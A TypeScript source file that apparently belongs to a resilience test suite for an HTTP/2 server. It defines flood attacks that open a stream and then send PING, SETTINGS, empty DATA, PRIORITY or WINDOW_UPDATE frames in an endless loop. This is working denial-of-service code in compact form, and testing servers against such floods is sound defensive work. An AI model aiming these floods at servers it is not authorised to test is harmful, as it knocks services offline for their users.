import {
  DATA,
  END_HEADERS,
  frame,
  HEADERS,
  PING,
  plainFields,
  preface,
  PRIORITY,
  requestFields,
  settings,
  settingsAck,
  uint32,
  WINDOW_UPDATE,
} from "../raw-frames.ts"
import { attackOn, bidiOf, type Attack } from "./attack.ts"

/** One frame again and again, as fast as the socket takes it, beside one open call. */
function flood(bytes: Buffer): Attack {
  const batch = Buffer.concat(Array.from({ length: Math.ceil(65_536 / bytes.length) }, () => bytes))
  return (address, options) =>
    attackOn(address, options, async (connection) => {
      const headers = plainFields(requestFields(bidiOf(options).path))
      await connection.send(
        Buffer.concat([preface, settings(), settingsAck, frame(HEADERS, END_HEADERS, 1, headers)]),
      )
      while (!connection.closed) await connection.send(batch)
    })
}

export const pingFlood = flood(frame(PING, 0, 0, Buffer.alloc(8)))
export const settingsFlood = flood(settings(65_535))
export const emptyDataFlood = flood(frame(DATA, 0, 1))
export const priorityFlood = flood(frame(PRIORITY, 0, 1, Buffer.alloc(5)))

/** The windows of stream and connection in turn, by one byte. They overflow after 2 GiB only. */
export const windowUpdateFlood = flood(
  Buffer.concat([frame(WINDOW_UPDATE, 0, 1, uint32(1)), frame(WINDOW_UPDATE, 0, 0, uint32(1))]),
)
